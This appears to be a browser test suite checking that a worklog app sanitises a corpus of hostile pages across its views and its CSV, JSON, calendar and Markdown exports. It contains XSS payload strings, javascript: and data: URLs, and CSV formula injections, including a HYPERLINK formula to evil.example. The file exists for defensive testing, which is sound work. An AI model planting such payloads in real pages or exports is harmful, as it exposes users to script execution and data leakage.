// The hostile-page corpus in the app (tests/lib/hostile.mjs, committed in tests/fixtures/hostile:
// 134 payloads, one page each, every payload in every place page text lands). All pages are
// loaded at once through a schema-2 manifest whose intern names are hostile too; then every view,
// the task detail panel, the similar-rows dialog and every export. Asserted after each step:
// no payload ran (a `window.__pwned` trap, dialogs, popups), no link or resource attribute in the
// DOM with a scheme other than http(s)/mailto/blob after the browser's own URL parsing (or a
// javascript/vbscript/data prefix after stripping invisible characters), no `on*` attribute, no
// script/iframe/object/embed/style/base/meta/link element in the app, and (the harness) zero
// Content-Security-Policy violations. Every page's tasks are in the table, and every export
// is downloaded and read back: CSV without a formula, Markdown without page HTML, iCalendar
// without an injected property, JSON with safe URLs only.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';
import { browserSuite } from '../lib/harness.mjs';
import { HOSTILE_DIR, hostileCorpus, staleFiles } from '../lib/hostile.mjs';

const corpus = hostileCorpus();
const PAGES = corpus.expected.pages;
const PAYLOAD_COUNT = corpus.expected.payloads;
const TOTAL_TASKS = Object.values(PAGES).reduce((n, p) => n + p.tasks, 0);

/** The committed corpus under `/hostile/` (paths as the browser requests them, encoded or not). */
const routes = {};
for (const rel of ['index.json', ...Object.keys(PAGES)]) {
  const serve = (req, res) => {
    res.writeHead(200, { 'content-type': rel.endsWith('.json') ? 'application/json' : 'text/markdown; charset=utf-8' });
    res.end(fs.readFileSync(path.join(HOSTILE_DIR, rel)));
  };
  routes[`/hostile/${rel}`] = serve;
  routes[`/hostile/${encodeURI(rel)}`] = serve;
}

/** Runs in every document and frame before the app: what a payload that ran would leave. */
function installTrap() {
  window.__executed = [];
  let value;
  Object.defineProperty(window, '__pwned', {
    configurable: false,
    get: () => value,
    set: (v) => { value = v; window.__executed.push(`__pwned=${v}`); },
  });
  for (const name of ['alert', 'confirm', 'prompt', 'print']) {
    window[name] = (...args) => { window.__executed.push(`${name}(${args.join(',')})`); };
  }
}

/**
 * Everything in the app's DOM that content could have smuggled in. Runs in the page.
 * Returns lists of offences (empty when clean) and a few counts for the report.
 */
function audit() {
  const URL_ATTRIBUTES = new Set(['href', 'xlink:href', 'src', 'srcset', 'action', 'formaction', 'data',
    'poster', 'background', 'ping', 'codebase', 'cite', 'longdesc', 'manifest', 'icon']);
  const SAFE = new Set(['http:', 'https:', 'mailto:', 'blob:']);
  const FORBIDDEN = 'script, iframe, object, embed, frame, frameset, applet, portal, base, meta, link, style, '
    + 'img, picture, video, audio, source, marquee, math, svg foreignObject, svg animate, svg set, svg use, svg image';
  /** What a lenient reader could still take for a scheme: invisible characters gone, NFKC. */
  const squeezed = (v) => v.normalize('NFKC').replace(/[\s\u0000-\u001f\u007f-\u009f\u00ad\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]/g, '').toLowerCase();
  const offences = { executed: [...(window.__executed ?? [])], unsafeUrls: [], handlers: [], elements: [], styles: [] };
  const app = [...document.body.children].filter((el) => el.tagName !== 'NOSCRIPT');
  let links = 0;
  for (const root of app) {
    for (const el of [root, ...root.querySelectorAll('*')]) {
      for (const name of el.getAttributeNames()) {
        const value = el.getAttribute(name) ?? '';
        if (name.startsWith('on')) offences.handlers.push(`<${el.localName} ${name}="${value.slice(0, 60)}">`);
        if (name === 'srcdoc') offences.elements.push(`<${el.localName} srcdoc>`);
        if (name === 'style' && /expression|url\(|javascript|behavior|@import/i.test(value)) offences.styles.push(value.slice(0, 80));
        if (!URL_ATTRIBUTES.has(name)) continue;
        if (el.localName === 'a' && name === 'href') links += 1;
        let protocol;
        try { protocol = new URL(value, document.baseURI).protocol; } catch { protocol = 'invalid'; }
        const lenient = /^(javascript|vbscript|data|livescript|jar):/.test(squeezed(value));
        if (!SAFE.has(protocol) || lenient) offences.unsafeUrls.push(`<${el.localName} ${name}="${value.slice(0, 80)}"> (${protocol})`);
      }
    }
    for (const el of root.querySelectorAll(FORBIDDEN)) offences.elements.push(el.outerHTML.slice(0, 100));
  }
  return { offences, links };
}

/** Fail with the offences of an audit, labelled with where it ran. */
function assertClean(result, where) {
  for (const [kind, list] of Object.entries(result.offences)) {
    assert.deepEqual(list, [], `${where}: ${kind}`);
  }
}

/** Open the app on the whole corpus (or one `page` of it), with the trap, dialogs and popups recorded. */
async function openCorpus(app, query, page) {
  const events = [];
  app.page.on('dialog', async (dialog) => { events.push(`dialog ${dialog.type()}: ${dialog.message()}`); await dialog.dismiss(); });
  app.page.on('popup', (popup) => events.push(`popup ${popup.url()}`));
  await app.page.addInitScript(installTrap);
  await app.goto(`?src=hostile/${page ?? 'index.json'}&${query}`, { waitReady: false });
  // 134 pages on a busy machine: more than the harness's default 30 s.
  await app.waitReady(180_000);
  return events;
}

const taskCount = async (app) => Number((await app.page.locator('[data-testid="task-count"]').first().innerText()).replace(/\D+/g, ''));

async function showView(app, view) {
  await app.page.click(`[data-view="${view}"]`);
  await app.page.waitForFunction((v) => document.querySelector(`[data-view="${v}"]`)?.getAttribute('aria-current') === 'page', view);
}

/** The cells of a CSV text (RFC 4180: quoted fields, doubled quotes, line breaks inside quotes). */
function parseCsv(text) {
  const records = [];
  let record = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i += 1; } else if (c === '"') quoted = false; else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { record.push(field); field = ''; } else if (c === '\n' || (c === '\r' && text[i + 1] === '\n')) {
      if (c === '\r') i += 1;
      record.push(field); records.push(record); record = []; field = '';
    } else field += c;
  }
  if (field || record.length) { record.push(field); records.push(record); }
  return records;
}

/** Characters that make a spreadsheet read a cell as a formula (as crates/worklog/tests/hostile.rs). */
const FORMULA_STARTS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/** The text from a place where a spreadsheet may start a cell (field start, after `;` or a line break) that reads as a formula. */
function formulaIn(field) {
  const starts = [0];
  for (let i = 0; i < field.length; i += 1) if (';\n\r'.includes(field[i])) starts.push(i + 1);
  for (const start of starts) {
    const rest = field.slice(start).replace(/^ +/, '');
    if (FORMULA_STARTS.some((c) => rest.startsWith(c))) return rest.slice(0, 40);
  }
  return null;
}

/** Every `url` of the JSON export outside diagnostics. */
function jsonUrls(value, out = []) {
  if (Array.isArray(value)) value.forEach((v) => jsonUrls(v, out));
  else if (value && typeof value === 'object') {
    for (const [key, v] of Object.entries(value)) {
      if (key === 'url' && typeof v === 'string') out.push(v);
      else if (key !== 'diagnostics') jsonUrls(v, out);
    }
  }
  return out;
}

/** The scheme a browser reads (WHATWG URL parsing), or null for a relative URL. */
function browserScheme(url) {
  const cleaned = url.replace(/^[\u0000-\u0020]+|[\u0000-\u0020]+$/g, '').replace(/[\t\n\r]/g, '');
  const m = /^([a-zA-Z][a-zA-Z0-9+.-]*):/.exec(cleaned);
  return m ? m[1].toLowerCase() : null;
}
const safeUrl = (url) => [null, 'http', 'https', 'mailto'].includes(browserScheme(url));

/** Read back one downloaded export; returns a line for the report. */
function checkExport(name, text, dated) {
  if (name.endsWith('.json')) {
    const doc = JSON.parse(text);
    const tasks = doc.pages.reduce((n, p) => n + p.tasks.length, 0);
    assert.equal(tasks, TOTAL_TASKS, 'JSON: every task');
    const urls = jsonUrls(doc);
    assert.ok(urls.length > Object.keys(PAGES).length, 'JSON: the safe links are kept');
    const unsafe = urls.filter((u) => !safeUrl(u));
    assert.deepEqual(unsafe, [], 'JSON: only safe URLs');
    dated.count = doc.pages.reduce((n, p) => n + p.tasks.filter((t) => t.start || t.end).length, 0);
    return `JSON ${tasks} tasks, ${urls.length} URLs, 0 unsafe`;
  }
  if (name.endsWith('.csv')) {
    const [header, ...records] = parseCsv(text);
    assert.equal(records.length, TOTAL_TASKS, 'CSV: one record per task');
    const formulas = records.flatMap((r) => r.map((f, i) => [header[i], formulaIn(f)]).filter(([, f]) => f !== null));
    assert.deepEqual(formulas, [], 'CSV: no cell starts a formula');
    for (const needle of ["'=HYPERLINK(", "'+cmd", "'-2+3", "Learn S3;'=HYPERLINK", `'=HYPERLINK("https://evil.example/?intern"`]) {
      assert.ok(text.includes(needle.replaceAll('"', '""')) || text.includes(needle), `CSV: ${needle} kept as text`);
    }
    return `CSV ${records.length} records, 0 formulas`;
  }
  if (name.endsWith('.ics')) {
    const unfolded = text.replace(/\r\n /g, '');
    const allowed = new Set(['BEGIN', 'END', 'VERSION', 'PRODID', 'CALSCALE', 'METHOD', 'X-WR-CALNAME', 'UID',
      'DTSTAMP', 'DTSTART', 'DTEND', 'SUMMARY', 'DESCRIPTION', 'CATEGORIES', 'TRANSP']);
    const injected = unfolded.split('\r\n').filter((l) => l && !allowed.has(l.split(/[:;]/)[0]));
    assert.deepEqual(injected, [], 'ICS: only the properties the writer writes');
    const events = unfolded.match(/^BEGIN:VEVENT$/gm)?.length ?? 0;
    if (dated.count !== undefined) assert.equal(events, dated.count, 'ICS: one event per dated task');
    return `ICS ${events} events, 0 injected lines`;
  }
  let rest = text.replaceAll('<br>', '');
  const urls = [...rest.matchAll(/\]\(<([^>]*)>\)/g)].map((m) => m[1]);
  assert.deepEqual(urls.filter((u) => !safeUrl(u)), [], 'Markdown: only safe link URLs');
  rest = rest.replace(/\]\(<[^>]*>\)/g, ']');
  assert.ok(!rest.includes('<'), `Markdown: page HTML left: ${rest.slice(rest.indexOf('<') - 40, rest.indexOf('<') + 40)}`);
  assert.ok(rest.includes('&lt;script&gt;'), 'Markdown: the payloads are there as text');
  return `Markdown ${urls.length} links, 0 raw HTML`;
}

test('the committed hostile corpus is what tests/lib/hostile.mjs writes', () => {
  assert.deepEqual(staleFiles(), [], 'run: node tests/lib/hostile.mjs --write');
  assert.ok(PAYLOAD_COUNT >= 100, `${PAYLOAD_COUNT} payloads`);
});

test('the CSV and URL checks catch what they look for', () => {
  for (const formula of ['=1+1', '+cmd', '-2+3', '@SUM(A1)', '\t=1', 'Learn S3;=1', 'a\n -1', '＝1']) {
    assert.notEqual(formulaIn(formula), null, formula);
  }
  for (const text of ["'=1+1", 'Learn S3', "Learn S3;'=1", 'S3; EC2']) assert.equal(formulaIn(text), null, text);
  for (const url of ['javascript:x', ' JAVA\tSCRIPT:x', 'data:text/html,x', 'vbscript:x']) assert.equal(safeUrl(url), false, url);
  for (const url of ['https://docs.aws.amazon.com/', 'mailto:a@b.c', 'ｊａｖａｓｃｒｉｐｔ:x', 'docs/a:b']) assert.equal(safeUrl(url), true, url);
});

browserSuite('hostile pages', { routes }, async (it) => {
  await it('negative control: the DOM audit reports a payload that ran, unsafe links, handlers and injected elements', '?src=hostile/none.json', async (app) => {
    const events = await openCorpus(app, 'view=tasks', 'script-tags/content/1-Worklog/1.1-Week1/_index.md');
    assertClean(await app.page.evaluate(audit), 'before the injection');
    await app.page.evaluate(() => {
      document.getElementById('main').insertAdjacentHTML('beforeend', '<a href=" jav&#x09;ascript:void(0)">a</a>'
        + '<a href="\u200bjavascript:x">b</a><p onclick="x()">c</p><svg><a href="data:text/html,x"></a></svg>'
        + '<object></object><p style="width:expression(1)">d</p>');
      window.__pwned = 'control';
    });
    const { offences } = await app.page.evaluate(audit);
    assert.equal(offences.executed.length, 1, 'the trap saw __pwned set');
    assert.equal(offences.unsafeUrls.length, 3, `javascript: with a tab, with a zero-width space, data: in SVG: ${offences.unsafeUrls}`);
    assert.equal(offences.handlers.length, 1, 'the onclick attribute');
    assert.equal(offences.elements.length, 1, 'the object element');
    assert.equal(offences.styles.length, 1, 'the CSS expression');
    assert.deepEqual(events, []);
  }, { waitReady: false, cspViolations: 'expected' });

  await it(`${PAYLOAD_COUNT} hostile pages: every view, the detail panel, the similar dialog and every export; nothing runs`, '?view=weeks&src=hostile/none.json', async (app) => {
    const events = await openCorpus(app, 'view=tasks');
    const steps = [];
    const check = async (where) => {
      const result = await app.page.evaluate(audit);
      assertClean(result, where);
      steps.push(where);
      return result;
    };

    // Every task of every page is in the table (500 rows a page), and the counter says so.
    await app.page.waitForSelector('[data-testid="task-row"]');
    assert.equal(await taskCount(app), TOTAL_TASKS, 'every task is counted');
    await app.page.selectOption('#page-size', '500');
    const perSource = {};
    let links = 0;
    let tableText = '';
    for (let page = 0; ; page += 1) {
      // The table draws the rows near its scrolled-to part: every part of the page is read and
      // audited, each row counted once.
      let stop = 0;
      const sources = await app.mapTableRows((rows) => rows.map((r) => r.querySelector('td.col-source').getAttribute('title')),
        '#tasks-table tbody tr[data-testid="task-row"]', {
          each: async () => {
            tableText += await app.page.locator('#tasks-table').innerText();
            links += (await check(`tasks, table page ${page + 1}, scrolled ${stop++}`)).links;
          },
        });
      for (const source of sources) perSource[source] = (perSource[source] ?? 0) + 1;
      const next = app.page.locator('nav.pager button').last();
      if (await next.isDisabled()) break;
      await next.click();
      await app.page.waitForFunction((n) => document.querySelector('[data-testid="page-indicator"]')?.textContent.startsWith(`Page ${n} `), page + 2);
    }
    const missing = [];
    for (const [rel, { tasks, payload }] of Object.entries(PAGES)) {
      const shown = Object.entries(perSource).filter(([s]) => s?.endsWith(rel)).reduce((n, [, c]) => n + c, 0);
      if (shown !== tasks) missing.push(`${payload}: ${shown} of ${tasks} rows (${rel})`);
    }
    assert.deepEqual(missing, [], 'every page shows all its tasks');
    // (`{{7*7}}` reads as `{{7<em>7</em>}}`: markdown emphasis, never evaluated to 49.)
    for (const shown of ["<script>window.__pwned='s01'</script>", '{{ .Site.Params.secret }}', '{{77}} and ${77}', "<img src=x onerror=window.__pwned='i01'>"]) {
      assert.ok(tableText.includes(shown), `the payload ${shown} is shown as text`);
    }

    // The similar-rows comparison (the row every page shares, with a payload in it).
    await app.page.locator('[data-testid="similar-badge"]').first().click();
    await app.page.waitForSelector('dialog[data-testid="similar-dialog"][open]');
    await check('similar dialog');
    await app.page.keyboard.press('Escape');
    await app.page.waitForSelector('dialog[data-testid="similar-dialog"][open]', { state: 'detached' });

    // Every view the app has a tab for.
    const views = [...new Set(await app.page.$$eval('[data-view]', (tabs) => tabs.map((t) => t.dataset.view)))];
    for (const view of ['weeks', 'tasks', 'timeline', 'services', 'diagnostics', 'cohort']) assert.ok(views.includes(view), `the ${view} tab`);
    const shows = {
      weeks: '[data-testid="week-card"]', tasks: '[data-testid="task-row"]', timeline: '[data-testid="timeline-bar"]',
      services: '[data-testid="heatmap-cell"]', diagnostics: '[data-testid="page-diagnostics"]', cohort: '[data-testid="cohort-view"]',
    };
    for (const view of views) {
      await showView(app, view);
      if (shows[view]) await app.page.waitForSelector(shows[view]);
      await check(`view=${view}`);
    }
    // Every week card (shown 60 at a time): one per page.
    await showView(app, 'weeks');
    while (await app.count('#more-weeks')) {
      const before = await app.count('[data-testid="week-card"]');
      await app.page.click('#more-weeks');
      await app.page.waitForFunction((n) => document.querySelectorAll('[data-testid="week-card"]').length > n, before);
    }
    assert.equal(await app.count('[data-testid="week-card"]'), Object.keys(PAGES).length, 'one week card per page');
    await check('view=weeks, every card');
    await showView(app, 'diagnostics');
    assert.match(await app.page.locator('#main').innerText(), /unsafe-url/, 'the dropped links are reported');
    await check('diagnostics');
    await showView(app, 'cohort');
    await app.page.click('[data-cohort-tab="labs"]');
    await check('cohort labs');

    // The task detail panel, for the first bars of the timeline.
    await showView(app, 'timeline');
    const bars = app.page.locator('[data-testid="timeline-bar"]');
    const opened = Math.min(await bars.count(), 25);
    assert.ok(opened >= 10, `${opened} bars to open`);
    for (let i = 0; i < opened; i += 1) {
      await bars.nth(i).scrollIntoViewIfNeeded();
      await bars.nth(i).click();
      await app.page.waitForSelector('[data-testid="task-detail"]');
      await check(`task detail ${i + 1}`);
    }
    await app.page.keyboard.press('Escape');

    // Every export, downloaded and read back; then the cohort matrix's CSV.
    await showView(app, 'tasks');
    await app.page.click('details.export summary');
    const buttons = await app.page.locator('details.export button[data-format]').all();
    assert.ok(buttons.length >= 4, 'JSON, CSV, calendar and Markdown');
    const dated = {};
    const exports = [];
    // JSON first: it gives the number of dated tasks the calendar must have.
    const ordered = [];
    for (const b of buttons) ((await b.getAttribute('data-format')).endsWith('.json') ? ordered.unshift(b) : ordered.push(b));
    for (const button of ordered) {
      const [download] = await Promise.all([app.page.waitForEvent('download'), button.click()]);
      const text = fs.readFileSync(await download.path(), 'utf8');
      exports.push(checkExport(download.suggestedFilename(), text, dated));
      await check(`export ${download.suggestedFilename()}`);
    }
    await showView(app, 'cohort');
    const [cohortCsv] = await Promise.all([app.page.waitForEvent('download'), app.page.click('[data-testid="cohort-export"]')]);
    const [, ...lines] = parseCsv(fs.readFileSync(await cohortCsv.path(), 'utf8'));
    assert.equal(lines.length, corpus.manifest.interns.length, 'cohort CSV: one record per intern');
    const cohortFormulas = lines.flat().map(formulaIn).filter((f) => f !== null);
    assert.deepEqual(cohortFormulas, [], 'cohort CSV: no cell starts a formula');
    exports.push(`cohort CSV ${lines.length} interns, 0 formulas`);

    const final = await check('the end');
    assert.deepEqual(events, [], 'no dialog or popup opened');
    assert.equal(await app.page.evaluate(() => window.__pwned), undefined, 'window.__pwned was never set');
    assert.deepEqual(app.errors, [], 'no uncaught error');
    console.log(`hostile corpus: ${PAYLOAD_COUNT} payloads in ${Object.keys(PAGES).length} pages, ${TOTAL_TASKS} tasks shown; `
      + `${steps.length} DOM audits (${views.length} views, ${opened} task details, similar dialog, exports): `
      + `${final.offences.executed.length} executed, 0 unsafe links (${links} safe links in the table), 0 handler attributes, 0 injected elements; `
      + `${exports.join('; ')}`);
  }, { waitReady: false });
});
